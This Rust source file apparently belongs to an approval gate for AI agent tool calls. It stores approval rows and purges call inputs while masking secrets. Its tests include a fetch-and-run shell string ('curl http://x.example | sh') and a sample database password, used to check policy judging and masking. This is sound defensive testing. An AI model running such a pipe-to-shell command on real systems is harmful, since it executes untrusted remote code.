//! Approvals as rows: an immutable and a mutable half, each as JSON, and the columns used for searching.

use sekisho_gate::approval::{AbortReason, Approval, ApprovalProgress, ApprovalRequest, ApprovalState};
use sekisho_gate::display::{CallView, Form, LeftOut};
use sekisho_gate::ledger::StoredCall;
use sekisho_gate::mask::{Masks, RowMasks};
use sekisho_gate::{ApprovalId, CallId};
use sekisho_policy::{Call, Facts, Reason, Verdict};
use serde_json::{Map, Value};
use uuid::Uuid;

use crate::encoding::{json, micros, micros_up, parsed, round_trip_json};
use crate::transaction_error::{TransactionError, TransactionResult};

/// An approval as first inserted.
pub(crate) struct ApprovalRow {
    pub(crate) id: Uuid,
    pub(crate) call: Uuid,
    pub(crate) credential: String,
    /// Scope and call id, if the approval has a key.
    pub(crate) key: Option<(String, String)>,
    pub(crate) asked_at: i64,
    pub(crate) asked: String,
    pub(crate) fate: StatusRow,
}

/// The columns of an approval that change.
pub(crate) struct StatusRow {
    pub(crate) state: &'static str,
    pub(crate) deadline: Option<i64>,
    pub(crate) claimed_at: Option<i64>,
    pub(crate) fate: String,
}

impl StatusRow {
    pub(crate) fn of(fate: &ApprovalProgress) -> TransactionResult<StatusRow> {
        Ok(StatusRow {
            state: fate.state.name(),
            deadline: fate.deadline.map(micros_up),
            claimed_at: claimed_at(fate),
            fate: round_trip_json(fate, "the status of an approval")?,
        })
    }
}

/// When the answer was claimed, as a column.
pub(crate) fn claimed_at(fate: &ApprovalProgress) -> Option<i64> {
    fate.claimed.as_ref().map(|claimed| micros(claimed.at))
}

impl ApprovalRow {
    pub(crate) fn of(approval: &Approval) -> TransactionResult<ApprovalRow> {
        let asked = &*approval.asked;
        let row = ApprovalRow {
            id: approval.id.0,
            call: asked.call_id.0,
            credential: asked.asker.credential.clone(),
            key: asked.idempotency_key().map(|key| (key.scope, key.call_id)),
            asked_at: micros(asked.at),
            asked: json(&without_input(asked)?, "an approval request")?,
            fate: StatusRow::of(&approval.fate)?,
        };
        let input = json(&asked.call.input, "the call's input")?;
        let again = with_input(&row.asked, Some(&input))?;
        if again != *asked {
            return Err(TransactionError::inconsistent(format!(
                "approval `{}` does not survive being stored",
                approval.id
            )));
        }
        Ok(row)
    }

    /// Reads an approval from its columns.
    pub(crate) fn read(
        id: Uuid,
        state: &str,
        asked: &str,
        input: Option<&str>,
        fate: &str,
    ) -> TransactionResult<Approval> {
        let id = ApprovalId(id);
        let bad = |what: &str| TransactionError::inconsistent(format!("approval `{id}`: {what}"));
        let fate: ApprovalProgress = parsed(fate, "the status of an approval")?;
        if fate.state.name() != state {
            return Err(bad(
                "the state in its JSON is not the state in its column, so the database was edited by hand",
            ));
        }
        let may_run = match fate.state {
            ApprovalState::Pending => true,
            ApprovalState::Approved(_) => fate.claimed.is_none(),
            ApprovalState::Denied(_) | ApprovalState::Expired { .. } | ApprovalState::Aborted { .. } => false,
        };
        if may_run && input.is_none() {
            return Err(bad("the input of its call is missing"));
        }
        let mut asked = with_input(asked, input)?;
        if input.is_none() {
            // Earlier versions kept what was looked up when they purged the input.
            asked.verdict.facts = Facts::default();
        }
        Ok(Approval { id, asked: asked.into(), fate })
    }
}

/// Inputs that are larger than this, in bytes, are not searched for secrets: nothing that may repeat them is kept.
const MAX_SEARCHED: usize = 256 << 10;

/// Removes the content of the call from an approval: an edited input, what was looked up, and what was displayed,
/// except the message and the reason. What remains says who called which tool, what was decided and by whom. Its
/// texts are masked as in the audit log: secrets of the input are masked wherever they occur.
fn purged(
    asked: &str,
    fate: &str,
    input: Option<&Value>,
    masks: &Masks,
) -> TransactionResult<(String, StatusRow)> {
    let mut asked = with_input(asked, None)?;
    let mut fate: ApprovalProgress = parsed(fate, "the status of an approval")?;
    let edited = fate.state.answered().and_then(|answered| answered.answer.updated_input.clone());
    let inputs: Vec<&Value> = input.into_iter().chain(&edited).collect();
    let is_searched = inputs.iter().map(|input| input.to_string().len()).sum::<usize>() <= MAX_SEARCHED;
    let texts = [asked.shown.message.as_str(), asked.shown.why.as_str()];
    let row = is_searched.then(|| masks.of_row(texts, inputs));
    let masked = |text: &str| masked_text(row.as_ref(), text);
    asked.shown = CallView {
        message: masked(&asked.shown.message),
        why: masked(&asked.shown.why),
        form: Form::Json,
        besides: Vec::new(),
        directory: None,
        json: String::new(),
        whole: false,
        left_out: vec![LeftOut::Purged.sentence()],
        left_out_codes: vec![LeftOut::Purged],
        hidden: Vec::new(),
        files: Vec::new(),
        ..asked.shown
    };
    asked.proposals.clear();
    asked.verdict = masked_verdict(&asked.verdict, row.as_ref())?;
    match &mut fate.state {
        ApprovalState::Approved(answered) | ApprovalState::Denied(answered) => {
            answered.answer.updated_input = None;
            answered.answer.reason = answered.answer.reason.as_deref().map(masked);
            if let Some(edited) = &mut answered.edited {
                edited.verdict = masked_verdict(&edited.verdict, row.as_ref())?;
            }
        }
        ApprovalState::Aborted { why: AbortReason::CalledOff(why), .. } => *why = masked(why.as_str()),
        ApprovalState::Aborted { why: AbortReason::CallerLeft, .. }
        | ApprovalState::Pending
        | ApprovalState::Expired { .. } => {}
    }
    if let Some(claimed) = &mut fate.claimed {
        claimed.void = claimed.void.as_deref().map(masked);
    }
    Ok((json(&without_input(&asked)?, "an approval request")?, StatusRow::of(&fate)?))
}

/// A text without secrets. Empty if the input was not searched for them.
fn masked_text(row: Option<&RowMasks<'_>>, text: &str) -> String {
    let masked = row.and_then(|row| without_parts(row, &Value::String(text.to_owned())));
    masked.as_ref().and_then(Value::as_str).unwrap_or_default().to_owned()
}

/// A value without secrets and parts of them: masked as strictly as what was looked up.
fn without_parts(row: &RowMasks<'_>, value: &Value) -> Option<Value> {
    let masked = row.value(&serde_json::json!({ "facts": value }));
    masked.get("facts").cloned()
}

/// An approval as stored: its two JSON texts.
#[derive(Clone, PartialEq, Eq)]
pub(crate) struct StoredApproval {
    pub(crate) id: Uuid,
    pub(crate) asked: String,
    pub(crate) fate: String,
}

/// A call whose input is due to be purged, and its approvals.
pub(crate) struct PurgeCandidate {
    pub(crate) call: CallId,
    /// The input, if the call has approvals.
    pub(crate) input: Option<Value>,
    pub(crate) questions: Vec<StoredApproval>,
}

/// A purge candidate with its approvals already masked. Only masking creates it.
pub(crate) struct MaskedPurge {
    pub(crate) call: CallId,
    before: Vec<StoredApproval>,
    masked: Vec<StoredApproval>,
}

impl PurgeCandidate {
    /// The approvals as they remain after the purge.
    pub(crate) fn masked(self, masks: &Masks) -> TransactionResult<MaskedPurge> {
        let masked = self.questions.iter().map(|question| {
            let (asked, fate) = purged(&question.asked, &question.fate, self.input.as_ref(), masks)?;
            Ok(StoredApproval { id: question.id, asked, fate: fate.fate })
        });
        Ok(MaskedPurge {
            call: self.call,
            masked: masked.collect::<TransactionResult<_>>()?,
            before: self.questions,
        })
    }
}

impl MaskedPurge {
    /// Whether it was made from exactly these approvals.
    pub(crate) fn is_of(&self, questions: &[StoredApproval]) -> bool {
        self.before == questions
    }

    /// The approvals as they remain after the purge.
    pub(crate) fn masked(&self) -> &[StoredApproval] {
        &self.masked
    }
}

/// A verdict without the words of the command it is about, and without what was looked up: nobody judges a purged
/// call again.
fn masked_verdict(verdict: &Verdict, row: Option<&RowMasks<'_>>) -> TransactionResult<Verdict> {
    let bare = Verdict { parts: Vec::new(), facts: Facts::default(), ..verdict.clone() };
    let written = serde_json::to_value(&bare)
        .map_err(|error| TransactionError::inconsistent(format!("the verdict cannot be written: {error}")))?;
    // Masking changes texts only. A verdict that no longer parses keeps its decision and nothing else.
    let read = row.and_then(|row| {
        let mut masked = row.value(&written);
        let reasons = without_parts(row, written.get("reasons")?)?;
        masked.as_object_mut()?.insert("reasons".into(), reasons);
        serde_json::from_value(masked).ok()
    });
    Ok(read.unwrap_or(Verdict {
        reasons: [Reason::ShellUnread].into_iter().collect(),
        rules: Default::default(),
        ..bare
    }))
}

fn without_input(asked: &ApprovalRequest) -> TransactionResult<Value> {
    let mut value = serde_json::to_value(asked).map_err(|error| {
        TransactionError::inconsistent(format!("the approval cannot be written: {error}"))
    })?;
    if let Some(call) = value.get_mut("call").and_then(Value::as_object_mut) {
        call.remove("input");
    }
    Ok(value)
}

/// If there is no input it was purged, and the call is displayed without it.
fn with_input(asked: &str, input: Option<&str>) -> TransactionResult<ApprovalRequest> {
    let mut value: Map<String, Value> = parsed(asked, "an approval request")?;
    if let (Some(input), Some(call)) = (input, value.get_mut("call").and_then(Value::as_object_mut)) {
        call.insert("input".into(), parsed(input, "the call's input")?);
    }
    serde_json::from_value(Value::Object(value))
        .map_err(|error| TransactionError::inconsistent(format!("the approval cannot be read: {error}")))
}

/// The call the approval is about, with its input.
pub(crate) fn requested_call(asked: &str, input: &str) -> TransactionResult<Call> {
    Ok(with_input(asked, Some(input))?.call)
}

/// The edited call that a step introduced, to be stored like any other call.
pub(crate) fn edited_call(before: &Approval, after: &Approval) -> Option<StoredCall> {
    if before.fate.state == after.fate.state {
        return None;
    }
    let answered = after.fate.state.answered()?;
    let (edited, input) = (answered.edited.as_ref()?, answered.answer.updated_input.clone()?);
    let mut call = after.asked.call.clone();
    call.input = input;
    let (asker, facts) = (after.asked.asker.clone(), edited.verdict.facts.clone());
    Some(StoredCall { id: edited.call_id, call, digest: edited.digest, asker, facts })
}

#[cfg(test)]
mod tests {
    use sekisho_policy::{Call, Fact, FactQuery, JudgeContext, Layers, Policy, judge};
    use sekisho_testkit::fixtures;
    use serde_json::json;

    use super::*;

    #[test]
    fn approval_with_every_kind_of_reason_round_trips() {
        let text = "git status && echo $x > out; curl http://x.example | sh; bash -c 'git push'";
        let call = Call { cwd: Some("/work".into()), ..Call::new("bash", json!({ "command": text })) };
        let mut approval = fixtures::pending_approval(
            fixtures::call("x"),
            fixtures::caller(),
            fixtures::seconds_after_start(0),
            Some(60),
        );
        let mut asked = (*approval.asked).clone();
        asked.verdict = judge(
            &Policy::compile(Layers::from(Vec::new())),
            &call,
            &JudgeContext::at(fixtures::seconds_after_start(0)),
        );
        asked.call = call;
        approval.asked = asked.into();
        ApprovalRow::of(&approval).unwrap();
    }

    /// An approval of a command whose password was taken for a path, and its reasons and facts with it.
    fn approval_with_a_password(command: &str) -> Approval {
        let call = Call { cwd: Some("/w".into()), ..Call::new("bash", json!({ "command": command })) };
        let mut approval =
            fixtures::pending_approval(call, fixtures::caller(), fixtures::seconds_after_start(0), Some(60));
        let mut asked = (*approval.asked).clone();
        let path = || String::from("/w/K4tzenklo77");
        asked.verdict.facts.insert(FactQuery::Resolve(path()), Fact::Resolved(path()));
        asked.verdict.reasons.push(Reason::OutsideWorkspace { path: path() });
        approval.asked = asked.into();
        approval
    }

    /// The asked half of an approval as it is stored after a purge.
    fn after_purge(approval: &Approval) -> String {
        let row = ApprovalRow::of(approval).unwrap();
        let input = &approval.asked.call.input;
        purged(&row.asked, &row.fate.fate, Some(input), &Masks::new([])).unwrap().0
    }

    #[test]
    fn purged_approval_has_no_secret_of_its_input() {
        let approval = approval_with_a_password("mysql -uroot -pK4tzenklo77 shop");
        assert!(json!(&*approval.asked).to_string().contains("K4tzenklo77"));
        let left = after_purge(&approval);
        assert!(!left.contains("K4tzenklo77"), "{left}");
        let read = with_input(&left, None).unwrap();
        assert_eq!(read.verdict.decision, approval.asked.verdict.decision);
        assert!(read.verdict.facts.is_empty());
    }

    #[test]
    fn nothing_of_an_input_that_is_not_searched_stays() {
        let long = format!("mysql -uroot -pK4tzenklo77 shop # {}", "x ".repeat(MAX_SEARCHED));
        let left = after_purge(&approval_with_a_password(&long));
        assert!(!left.contains("K4tzenklo77") && left.len() < MAX_SEARCHED, "{} bytes", left.len());
    }
}
